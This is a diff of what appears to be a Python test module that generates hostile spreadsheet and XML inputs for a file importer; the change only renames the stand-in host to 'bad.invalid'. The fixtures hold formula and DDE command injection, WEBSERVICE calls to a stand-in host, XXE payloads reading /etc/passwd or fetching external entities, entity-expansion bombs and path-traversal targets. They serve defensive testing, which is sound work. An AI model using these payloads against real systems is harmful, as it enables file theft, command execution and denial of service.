@@ -43,8 +43,8 @@ def _formulas() -> Iterator[_Made]:
         "=1/0",
         "=[1]Sheet1!A1",
         "=cmd|'/c calc'!A0",
-        '=WEBSERVICE("http://invalid.example/")',
-        '=HYPERLINK("http://invalid.example/","点我")',
+        '=WEBSERVICE("http://bad.invalid/")',
+        '=HYPERLINK("http://bad.invalid/","点我")',
         "=DDE(1,2,3)",
         "=" + "(" * 2000 + "1" + ")" * 2000,
     )
@@ -152,8 +152,8 @@ def _entities() -> Iterator[_Made]:
     prologs = {
         "billion laughs": f"{laughs}]>",
         "outside entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
-        "outside document type": '<!DOCTYPE x SYSTEM "http://invalid.example/x.dtd">',
-        "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://invalid.example/p"> %p;]>',
+        "outside document type": '<!DOCTYPE x SYSTEM "http://bad.invalid/x.dtd">',
+        "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://bad.invalid/p"> %p;]>',
         "quadratic entity": f'<!DOCTYPE x [<!ENTITY q "{"x" * 50_000}">]>',
     }
     for name, prolog in prologs.items():
@@ -200,7 +200,7 @@ def _structure() -> Iterator[_Made]:
         zipped(parts | {"xl/workbook.xml": book.replace("rId1", "rId9")}),
     )
     links = parts["xl/_rels/workbook.xml.rels"]
-    for target in ("/etc/passwd", "../../../x.xml", "http://invalid.example/", "", "worksheets/sheet9.xml"):
+    for target in ("/etc/passwd", "../../../x.xml", "http://bad.invalid/", "", "worksheets/sheet9.xml"):
         changed = links.replace("worksheets/sheet1.xml", target)
         yield f"sheet at {target!r}", "清单.xlsx", zipped(parts | {"xl/_rels/workbook.xml.rels": changed})
     hidden = book.replace('sheetId="1"', 'sheetId="1" state="veryHidden"')
@@ -216,7 +216,7 @@ def _outside() -> Iterator[_Made]:
     book = workbook()
     sheet = book["问题清单"]
     sheet["B2"].comment = Comment("批注", "某人")
-    sheet["B3"].hyperlink = "http://invalid.example/"
+    sheet["B3"].hyperlink = "http://bad.invalid/"
     rule = DataValidation(type="list", formula1='"甲,乙"')
     rule.add("E2:E9")
     sheet.add_data_validation(rule)
@@ -235,7 +235,7 @@ def _outside() -> Iterator[_Made]:
 
 def _old_books() -> Iterator[_Made]:
     yield "merged cells", "清单.xls", xls_bytes(merge=True)
-    for formula in ("SUM(F2:F5)", "1/0", 'HYPERLINK("http://invalid.example/")'):
+    for formula in ("SUM(F2:F5)", "1/0", 'HYPERLINK("http://bad.invalid/")'):
         yield f"formula {formula}", "清单.xls", xls_bytes(formula=formula)
     good = xls_bytes()
     for share in (1, 10, 25, 50, 75, 90, 99):
